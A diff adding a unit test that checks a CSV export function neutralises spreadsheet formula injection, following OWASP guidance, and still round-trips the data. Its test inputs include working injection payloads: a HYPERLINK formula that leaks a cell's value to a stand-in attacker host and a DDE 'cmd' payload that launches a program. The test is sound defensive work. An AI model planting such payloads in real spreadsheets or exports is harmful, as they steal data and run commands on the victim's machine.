@@ -155,4 +155,27 @@ describe('bundleToCsv', () => {
   it('round-trips the demo bundle', () => {
     expect(Bundle.parse(parseCsvBundle(bundleToCsv(demo)))).toEqual(demo);
   });
+
+  it('escapes formula cells (OWASP) and reads them back exactly; plain numbers stay numbers', () => {
+    const hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1,"click")';
+    const formulas = Bundle.parse({
+      ...awkward,
+      capabilities: [...awkward.capabilities, { id: 'cap-f', name: '+cmd|\' /C calc\'!A0', category: '@SUM(1+1)' }],
+      regions: [{ id: 'emea-south', name: '-2+3' }, { id: 'apac', name: "'=already quoted" }],
+      segments: [{ id: 'enterprise', name: '-5' }],
+      partners: [{ ...awkward.partners[0]!, name: hyperlink, aliases: ['=alias', 'plain'] }],
+    });
+    const files = bundleToCsv(formulas);
+    expect(files['partners.csv']).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""click"")"`);
+    expect(files['partners.csv']).toContain(`"'=alias;plain"`);
+    expect(files['segments.csv']).toContain('enterprise,-5\n'); // a plain number runs as nothing but itself: written as it is
+    expect(files['capabilities.csv']).toContain(`"'+cmd|' /C calc'!A0","'@SUM(1+1)"`);
+    expect(files['regions.csv']).toContain(`emea-south,"'-2+3"`);
+    expect(files['regions.csv']).toContain(`apac,"''=already quoted"`);
+    // No cell of any file starts with a formula character, except plain numbers.
+    for (const text of Object.values(files)) {
+      for (const line of text.split('\n')) for (const cell of line.split(',')) expect(/^[=+@\t\r]|^-(?!\d)/.test(cell), cell).toBe(false);
+    }
+    expect(Bundle.parse(parseCsvBundle(files))).toEqual(formulas);
+  });
 });
